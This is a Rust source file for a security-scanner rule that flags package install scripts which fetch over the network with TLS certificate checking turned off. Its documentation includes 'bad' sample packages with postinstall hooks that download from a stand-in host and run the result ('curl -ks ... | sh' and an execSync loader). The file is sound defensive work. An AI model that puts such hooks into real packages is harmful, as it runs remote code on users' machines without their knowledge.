//! # A server's certificate is not checked by code that runs by itself
//!
//! A request that is made at install or import, or a command that runs then, takes any certificate: `rejectUnauthorized:
//! false`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `strict-ssl=false`, `curl -k`.
//!
//! ## Why it matters
//!
//! What is fetched so can come from anyone on the way. Servers that serve a campaign for a week have no certificate that
//! anybody checks, and their loaders switch the check off before they fetch.
//!
//! ## Known benign uses
//!
//! Clients of services on the own machine or in a private network, with certificates of their own; development proxies
//! offer it as an option. One of 4,668 releases of the corpora does it. It never decides alone.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const https = require("https");
//! https.get({ host: "files.invalid", path: "/a", rejectUnauthorized: false }, (reply) => { //~ here
//!   let text = "";
//!   reply.on("data", (part) => (text += part));
//!   reply.on("end", () => require("child_process").execSync(text));
//! });
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl -ks https://files.invalid/a | sh"}}
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const https = require("https");
//! exports.get = (url, insecure) => https.get(url, { rejectUnauthorized: !insecure });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! require("https").get("https://localhost:8443/", { rejectUnauthorized: false }, (reply) => reply.resume());
//! ```
//!
//! ## References
//!
//! - the loader easy-day-js (June 2026)
//! - MITRE ATT&CK T1562, Impair Defenses

use std::rc::Rc;

use stockade_facts::api::find;
use stockade_model::Capability;

use crate::prelude::*;

/// A server's certificate is not checked by code that runs by itself.
pub struct SecureConnectionUnchecked;

impl Rule for SecureConnectionUnchecked {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "secure-connection-unchecked",
            title: "A server's certificate is not checked by code that runs by itself",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1562",
            covers: &["tls-verify-off"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for call in facts.all_calls().iter().filter(|call| call.trigger.runs_unasked()) {
            let is_request =
                find(&call.api).is_some_and(|entry| entry.effect.capability() == Some(Capability::Network));
            let is_unchecked = |(name, value): &(Rc<str>, Rc<str>)| {
                &**name == "rejectUnauthorized" && matches!(&**value, "false" | "0")
            };
            let mut options = call.arguments.iter().flat_map(|argument| &argument.options);
            if is_request && options.any(is_unchecked) && !is_local(call) {
                found.call(call, "takes whatever certificate the server shows");
            }
        }
        for command in facts.unasked_commands() {
            if command.behaviours.contains(&BehaviourKind::DisablesVerification) {
                found.at(command.trigger, &command.locus, "takes whatever certificate the server shows");
            }
        }
    }
}

/// Whether the call names the own machine or a private network.
fn is_local(call: &CallFact) -> bool {
    let texts = call.arguments.iter().flat_map(|argument| &argument.texts);
    let hosts = call.arguments.iter().flat_map(|argument| &argument.options);
    let named = hosts.filter(|(name, _)| matches!(&**name, "host" | "hostname")).map(|(_, host)| host);
    let mut found =
        texts.filter_map(|text| Host::of(text, false)).chain(named.filter_map(|host| Host::of(host, true)));
    found.any(|host| host.class() == HostClass::Local)
}
